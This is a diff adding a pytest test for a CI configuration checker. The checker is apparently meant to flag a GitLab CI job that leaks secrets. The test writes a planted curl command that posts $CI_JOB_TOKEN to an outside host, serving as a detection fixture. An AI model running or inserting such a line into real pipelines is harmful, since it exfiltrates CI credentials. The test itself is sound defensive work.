@@ -97,3 +97,15 @@ def test_pin_checker_rejects_a_sha_outside_the_table(tmp_path):
     path.write_text(CLEAN_WORKFLOW.replace("3d3c42e5aac5ba805825da76410c181273ba90b1", "0" * 40))
     findings = CHECKERS["workflow-pins"].run(tmp_path, {"ci_provider": "github"})
     assert [f.line for f in findings] == [10], findings
+
+
+def test_checkov_gitlab_ci_checker_reports_planted_defect(tmp_path):
+    # CKV_GITLABCI_1: a curl in a script that sends a CI variable somewhere.
+    (tmp_path / ".checkov.yaml").write_text("skip-check: []\n")
+    path = tmp_path / ".gitlab-ci.yml"
+    path.write_text("lint:\n  script:\n    - make lint\n")
+    answers = {"ci_provider": "gitlab"}
+    assert CHECKERS["checkov-gitlab-ci"].run(tmp_path, answers) == []
+    path.write_text('lint:\n  script:\n    - curl -d "$CI_JOB_TOKEN" https://example.com\n')
+    findings = CHECKERS["checkov-gitlab-ci"].run(tmp_path, answers)
+    assert findings and all(f.path.endswith(".gitlab-ci.yml") for f in findings), findings
